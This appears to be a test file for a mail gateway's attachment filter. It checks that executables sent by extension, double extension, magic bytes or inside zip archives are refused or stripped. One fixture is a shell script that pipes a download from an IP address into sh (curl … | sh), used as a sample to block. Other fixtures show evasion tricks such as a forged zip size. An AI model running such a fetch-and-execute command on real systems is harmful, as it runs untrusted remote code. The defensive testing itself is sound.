// Attachment blocking against real clients: executables by extension, double extension,
// magic bytes and inside zip archives refused with one exact reply; strip mode replaces them
// by a notice in the stored message, before anti-virus sees it.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { walkParts } from '../../../main/gateway/content/mime-walk.js';
import { EICAR } from '../../../main/gateway/layers/antivirus.js';
import { findStored, header, send, startContentGateway, swaks as swaksTo, swaksAvailable, type ContentGateway } from '../../support/content-gateway.js';
import { makeZip } from '../../support/zip.js';

const PE = Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0]), Buffer.alloc(64)]);
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
const files = mkdtempSync(join(tmpdir(), 'mxaudit-att-'));
writeFileSync(join(files, 'program'), PE);

let t: ContentGateway;
beforeAll(async () => {
  t = await startContentGateway({});
});
afterAll(async () => {
  await t.stop();
  rmSync(files, { recursive: true, force: true });
});

const refused = (name: string) => `550 5.7.1 Message refused: executable attachment ${name} blocked`;

(swaksAvailable ? describe : describe.skip)('attachment blocking with swaks', () => {
  it.each([
    ['setup.exe', 'extension .exe'],
    ['screensaver.scr', 'extension .scr'],
    ['invoice.pdf.exe', 'double extension .pdf.exe'],
  ])('refuses %s (%s)', async (name, why) => {
    const out = await swaksTo(t.gw.port, '--attach-name', name, '--attach', `@${join(files, 'program')}`);
    expect(out).toContain(`<** ${refused(name)}`);
    expect(t.decisions.at(-1)).toMatchObject({ layer: 'attachment-blocking', action: 'reject', reply: refused(name), reason: `${name}: ${why}` });
  });
});

describe('attachment blocking with nodemailer', () => {
  it.each([
    ['MZ', PE],
    ['ELF', ELF],
    ['#!', Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')],
  ])('refuses a .txt whose content starts with %s', async (magic, content) => {
    expect(await send(t.gw.port, { subject: 'notes', text: 'see notes', attachments: [{ filename: 'notes.txt', content }] })).toBe(refused('notes.txt'));
    expect(t.decisions.at(-1)!.reason).toBe(`notes.txt: content starts with ${magic}`);
  });

  it.each([
    ['deflated, sizes after the data', { deflate: true, descriptor: true }],
    ['stored', {}],
  ])('refuses an .exe inside a zip (%s)', async (_label, how) => {
    const zip = makeZip([{ name: 'readme.txt', data: 'read me' }, { name: 'bin/setup.exe', data: PE, ...how }]);
    expect(await send(t.gw.port, { subject: 'zip', text: 'archive', attachments: [{ filename: 'files.zip', content: zip }] })).toBe(refused('files.zip/bin/setup.exe'));
    expect(t.decisions.at(-1)!.reason).toBe('files.zip/bin/setup.exe: zip entry: extension .exe');
  });

  it('refuses a zip whose first entry claims a size that would hide the rest', async () => {
    const zip = makeZip([{ name: 'readme.txt', data: 'read me' }, { name: 'setup.exe', data: PE }]);
    zip.writeUInt32LE(1 << 30, 18);
    expect(await send(t.gw.port, { text: 'zip', attachments: [{ filename: 'odd.zip', content: zip }] })).toBe(refused('odd.zip'));
    expect(t.decisions.at(-1)!.reason).toBe('odd.zip: zip not fully inspected (over 10000 entries, or malformed)');
  });

  it('accepts documents, a harmless zip, and a message text that starts with #!', async () => {
    const reply = await send(t.gw.port, {
      subject: 'docs',
      text: '#!important marker-docs',
      attachments: [
        { filename: 'report.pdf', content: Buffer.from('%PDF-1.4\n') },
        { filename: 'photos.zip', content: makeZip([{ name: 'a.jpg', data: 'jpeg', deflate: true }]) },
      ],
    });
    expect(reply).toMatch(/^250 2\.0\.0 Message accepted/);
    expect(findStored(t.store, 'marker-docs')?.folder).toBe('inbox');
  });

  it('a file name never adds anything but printable ASCII to the reply', async () => {
    expect(await send(t.gw.port, { text: 'x', attachments: [{ filename: 'сч\u0451т.pdf.exe', content: 'x' }] })).toBe(refused('????.pdf.exe'));
  });
});

describe('attachment stripping', () => {
  let s: ContentGateway;
  beforeAll(async () => {
    s = await startContentGateway({ 'attachment-blocking': { action: 'strip' } });
  });
  afterAll(() => s.stop());

  /** Each leaf part of a stored message: file name and decoded content. */
  async function partsOf(text: string): Promise<[string | null, string][]> {
    const path = join(files, 'stored.eml');
    writeFileSync(path, text, 'latin1');
    const parts: [string | null, string][] = [];
    await walkParts(
      path,
      (p) => {
        const chunks: Buffer[] = [];
        return { write: (c) => void chunks.push(c), end: () => void parts.push([p.filename, Buffer.concat(chunks).toString('latin1')]) };
      },
      { timeoutMs: 5000, maxParts: 50 },
    );
    return parts;
  }

  it('replaces the executable by a notice, keeps the rest, and says so in a header', async () => {
    const reply = await send(s.gw.port, {
      subject: 'strip',
      text: 'marker-strip',
      attachments: [
        { filename: 'setup.exe', content: PE },
        { filename: 'report.pdf', content: Buffer.from('%PDF-1.4 report') },
        { filename: 'tools.zip', content: makeZip([{ name: 'bin/run.exe', data: PE, deflate: true }]) },
      ],
    });
    expect(reply).toMatch(/^250 2\.0\.0 Message accepted/);
    const stored = findStored(s.store, 'marker-strip')!;
    expect(stored.folder).toBe('inbox');
    expect(header(stored.text, 'X-Mxaudit-Attachments-Removed')).toBe('setup.exe, tools.zip/bin/run.exe');
    expect(s.decisions.filter((d) => d.action === 'note').at(-1)).toMatchObject({
      layer: 'attachment-blocking',
      reason: 'stripped setup.exe: extension .exe; tools.zip/bin/run.exe: zip entry: extension .exe',
    });
    expect(await partsOf(stored.text)).toEqual([
      [null, 'marker-strip'],
      ['setup.exe.removed.txt', 'This attachment (setup.exe) was removed by the mail gateway: executable content (extension .exe).\r\n'],
      ['report.pdf', '%PDF-1.4 report'],
      ['tools.zip.removed.txt', 'This attachment (tools.zip/bin/run.exe) was removed by the mail gateway: executable content (zip entry: extension .exe).\r\n'],
    ]);
  });

  it('strips before anti-virus: an infected executable is removed, the rest delivered', async () => {
    const reply = await send(s.gw.port, { subject: 'virus in exe', text: 'marker-strip-av', attachments: [{ filename: 'eicar.com', content: EICAR }] });
    expect(reply).toMatch(/^250 2\.0\.0 Message accepted/);
    const stored = findStored(s.store, 'marker-strip-av')!;
    expect(stored.folder).toBe('inbox');
    expect((await partsOf(stored.text)).map(([name, content]) => [name, content.includes(EICAR)])).toEqual([
      [null, false],
      ['eicar.com.removed.txt', false],
    ]);
    expect(header(stored.text, 'X-Mxaudit-Attachments-Removed')).toBe('eicar.com');
  });
});
